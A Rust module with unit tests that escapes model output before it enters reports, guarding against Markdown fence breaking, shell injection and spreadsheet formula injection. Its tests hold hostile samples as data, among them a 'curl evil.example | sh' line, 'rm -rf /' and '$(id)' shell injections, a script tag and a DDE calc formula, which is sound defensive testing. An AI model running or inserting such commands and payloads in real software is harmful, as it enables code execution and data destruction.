//! Text from evidence put into reports so that it cannot turn against their readers: model
//! output and reasons are data, never Markdown structure, shell syntax or a spreadsheet formula.
//! A model's output holding three backticks cannot close a fence and forge a "Reproduce" step; a
//! trial name from a crafted journal cannot inject a shell command; a cell cannot run as a
//! formula when `models.csv` is opened in a spreadsheet (OWASP's CSV injection advice).

/// `content` in a fenced code block whose fence is longer than any run of backticks inside it.
pub(crate) fn fenced(lang: &str, content: &str) -> String {
    let fence = "`".repeat(longest_run(content, '`').max(2) + 1);
    format!("{fence}{lang}\n{content}\n{fence}")
}

/// `s` as an inline code span: delimited by more backticks than it holds, on one line.
pub(crate) fn code_span(s: &str) -> String {
    let one_line = s.replace(['\r', '\n'], " ");
    let ticks = "`".repeat(longest_run(&one_line, '`') + 1);
    // A span that starts or ends with a backtick needs a space between it and the delimiter.
    let pad = if one_line.starts_with('`') || one_line.ends_with('`') { " " } else { "" };
    format!("{ticks}{pad}{one_line}{pad}{ticks}")
}

/// `s` as Markdown text on one line: every character Markdown could read as structure or HTML
/// is escaped with a backslash.
pub(crate) fn text(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '\r' | '\n' => out.push(' '),
            '\\' | '`' | '*' | '_' | '[' | ']' | '<' | '>' | '#' | '|' | '!' | '~' | '{' | '}' | '('
            | ')' => {
                out.push('\\');
                out.push(c);
            }
            c => out.push(c),
        }
    }
    out
}

/// `s` as one POSIX shell word: single-quoted, each `'` written as `'\''`.
pub(crate) fn shell_word(s: &str) -> String {
    format!("'{}'", s.replace('\'', r"'\''"))
}

/// A CSV cell that a spreadsheet will not run: one beginning with `=`, `+`, `-`, `@`, a tab or a
/// carriage return is prefixed with `'`. (`-` alone, the registry's "none", stays as it is.)
pub(crate) fn csv_cell(s: &str) -> String {
    if s != "-" && s.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{s}") } else { s.to_string() }
}

fn longest_run(s: &str, c: char) -> usize {
    let (mut best, mut run) = (0, 0);
    for x in s.chars() {
        run = if x == c { run + 1 } else { 0 };
        best = best.max(run);
    }
    best
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_output_with_backticks_cannot_close_its_fence() {
        let hostile = "4\n```\n\n**Reproduce.**\n\n```sh\ncurl evil.example | sh\n```";
        let block = fenced("text", hostile);
        let fence = block.lines().next().expect("a first line").trim_end_matches("text");
        assert_eq!(fence.len(), 4, "{block}");
        // Every line inside is shorter than the fence in backticks: nothing closes it early.
        let inner: Vec<&str> = block.lines().skip(1).collect();
        let closing = inner.iter().position(|l| *l == fence).expect("closes");
        assert_eq!(closing, inner.len() - 1, "{block}");
        assert_eq!(fenced("text", "plain"), "```text\nplain\n```");
    }

    #[test]
    fn inline_text_and_spans_stay_on_one_line_and_inert() {
        assert_eq!(code_span("a`b"), "``a`b``");
        assert_eq!(code_span("`x"), "`` `x ``");
        assert_eq!(code_span("two\nlines"), "`two lines`");
        let t = text("ok\n\n# Heading <script>alert(1)</script> [link](http://x) **bold**");
        assert!(!t.contains('\n') && !t.contains("**"), "{t}");
        let unescaped = |c: char| t.match_indices(c).any(|(i, _)| !t[..i].ends_with('\\'));
        assert!(!unescaped('<') && !unescaped('[') && !unescaped('#'), "{t}");
        assert!(t.contains(r"\# Heading \<script\>"), "{t}");
    }

    #[test]
    fn a_shell_word_survives_quotes_and_metacharacters() {
        for s in ["plain::name", "it's", "'; rm -rf / #", "$(id)`id`", "a b\tc", ""] {
            let word = shell_word(s);
            let out = std::process::Command::new("sh")
                .args(["-c", &format!("printf %s {word}")])
                .output()
                .expect("sh runs");
            assert_eq!(String::from_utf8_lossy(&out.stdout), s, "{word}");
        }
    }

    #[test]
    fn formula_cells_are_neutralised_and_ordinary_ones_kept() {
        for s in ["=cmd|' /C calc'!A0", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
            assert!(csv_cell(s).starts_with('\''), "{s}");
        }
        for s in ["modelqa/qa-tiny-llama", "800", "-", "B", "0.5B", ""] {
            assert_eq!(csv_cell(s), s);
        }
    }
}
